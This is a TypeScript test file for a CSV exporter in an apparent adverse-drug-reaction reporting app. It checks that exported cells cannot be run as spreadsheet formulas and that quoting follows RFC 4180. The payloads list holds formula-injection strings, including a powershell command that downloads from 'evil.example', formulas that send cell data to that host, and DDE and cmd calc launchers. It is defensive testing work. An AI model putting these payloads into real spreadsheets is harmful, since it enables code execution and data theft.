// CSV files: names, columns, RFC 4180, and cells that no spreadsheet runs as a formula.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { anyCharacter } from '#testing/any-character.ts';
import { csvColumns, csvFileName, csvHead, csvLine } from './csv-columns-rules.ts';
import { csvColumnsOf } from './fields/kinds-rules.ts';
import { drugRisks } from './resources/drug-risks-rules.ts';
import { csvCell, withoutGuard } from './csv-rules.ts';

// Inputs that attackers use so that a spreadsheet runs them. Each must be prefixed with an apostrophe.
const payloads = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|'/C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=IMPORTDATA("http://evil.example")',
  '=IMPORTRANGE("key","A1")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMAGE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=INDIRECT("A1")',
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  '=EXEC("calc")',
  '=@SUM(1)',
  '==1',
  '=',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '+91 98765 43210',
  '+HYPERLINK("http://evil.example")',
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '-',
  '@SUM(1+1)',
  "@cmd|'/C calc'!A0",
  '@import',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '\0=1+1',
  '\0plain',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
];

test('there are at least 40 payloads', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(40);
});

test.each(payloads)('%j is prefixed with an apostrophe, and otherwise unchanged', (payload) => {
  // A tab or a line break gets a second apostrophe after it, because some programs start a cell there.
  expect(readCell(csvCell(payload))).toBe(`'${payload.replace(/^([\t\r\n])(?==)/, "$1'")}`);
});

test.each([
  ['x;=1+1', "x;'=1+1"],
  ['x; =1+1;y', "x;' =1+1;y"],
  ['x\t=1+1', "x\t'=1+1"],
  ['x\n=1+1;y', "x\n'=1+1;y"],
  ['x\r\n+91', "x\r\n'+91"],
  ['=1;=2;-3', "'=1;'=2;'-3"],
  ['a;b\t@c', "a;b\t'@c"],
  ["x;'=1", "x;''=1"],
  ["'=1", "''=1"],
])('%j is written as %j, for spreadsheets that split at semicolons or tabs', (text, written) => {
  expect(readCell(csvCell(text))).toBe(written);
});

const anyText = fc.string({ unit: fc.constantFrom(...';\t\r\n =+-@＝\'",ab\0\u200b') });

test('no part of a line that a spreadsheet may take for a cell begins a formula', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      const line = `name,${csvCell(text)},2026-11-21\r\n`;
      // Quotation marks within such a part are ordinary characters.
      for (const part of line.split(/[;\t\r\n]/)) {
        expect(part).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
      }
      expect(readCell(csvCell(text))).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
    }),
    { numRuns: 2_000 },
  );
});

test('every text is unchanged after a round trip through its cell', () => {
  fc.assert(
    fc.property(fc.oneof({ weight: 9, arbitrary: anyText }, fc.string({ unit: anyCharacter })), (text) => {
      // Isolates that somebody typed are balanced.
      const known = text.replaceAll(/[\u2066-\u2069]/g, '');
      expect(withoutGuard(readCell(csvCell(known)))).toBe(known);
    }),
    { numRuns: 1_000, examples: [[' \t@'], ["'\t'="], ["\t''\u200b="]] },
  );
});

test('a text that may turn the direction is isolated in its cell, line by line, and comes back without it', () => {
  for (const [text, written] of [
    ['رشید', '\u2068رشید\u2069'],
    ['a\u202eb', '\u2068a\u202eb\u2069'],
    ['a\n\u202eb', 'a\n\u2068\u202eb\u2069'],
    ['=\u202e1', "'\u2068=\u202e1\u2069"],
  ] as const) {
    expect(readCell(csvCell(text))).toBe(written);
    expect(withoutGuard(readCell(csvCell(text)))).toBe(text);
  }
});

test.each([
  'Amoxicillin',
  'सुनीता देवी',
  '2-3 days',
  'a = b',
  '1+1',
  "'already",
  '"quoted"',
  'a,b;c\td',
  'two\r\nlines',
  '',
  '💊 =1',
])('%j stays as it is', (text) => {
  expect(readCell(csvCell(text))).toBe(text);
});

test('cells are quoted as RFC 4180 requires, with doubled quotes', () => {
  expect(csvCell('plain')).toBe('plain');
  expect(csvCell('a,b')).toBe('"a,b"');
  expect(csvCell('say "no"')).toBe('"say ""no"""');
  expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
  expect(csvCell('=A1,"x"')).toBe('"\'=A1,""x"""');
  expect(csvCell(['title', 'a,b'])).toBe('"title a,b"');
  expect(csvCell(['=1'])).toBe("'=1");
  expect(csvCell({ amount: 2, records: ['=1'] })).toBe('"{""amount"":2,""records"":[""=1""]}"');
  expect([csvCell(null), csvCell(0), csvCell(-5), csvCell(true)]).toEqual(['', '0', '-5', 'true']);
});

test('a file begins with the byte-order mark and exactly the columns of its kind', () => {
  expect(csvHead(csvColumns['adr-reports'])).toBe(
    '\ufeffname,age,contact,medicineName,symptoms,duration,message,createdAt\r\n',
  );
  expect(csvHead(csvColumns['contact-messages'])).toBe('\ufeffname,email,message,createdAt\r\n');
  expect(csvHead(csvColumnsOf(drugRisks))).toBe('\ufeffdrugName,commonADRs,riskPercentage,isActive\r\n');
});

test('a line contains only the columns of its kind, in order', () => {
  const record = {
    id: '1',
    reference: 'ADR-2026-0000-0000',
    createdAt: '2026-11-21T05:40:00.000Z',
    message: null,
    name: 'A. K.',
    age: 0,
    contact: '=1',
    medicineName: 'Ibuprofen',
    symptoms: 'Rash, itching',
    duration: '2 days',
  };
  expect(csvLine(csvColumns['adr-reports'], record)).toBe(
    'A. K.,0,\'=1,Ibuprofen,"Rash, itching",2 days,,2026-11-21T05:40:00.000Z\r\n',
  );
});

test('a file is named by its kind and the date in the administrator’s time zone', () => {
  expect(csvFileName('adr-reports', new Date(2026, 0, 5, 0, 30))).toBe('adr-reports-2026-01-05.csv');
  expect(csvFileName('contact-messages', new Date(2026, 10, 21, 23, 59))).toBe(
    'contact-messages-2026-11-21.csv',
  );
});

/** Reads one cell as RFC 4180 defines it. */
function readCell(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}
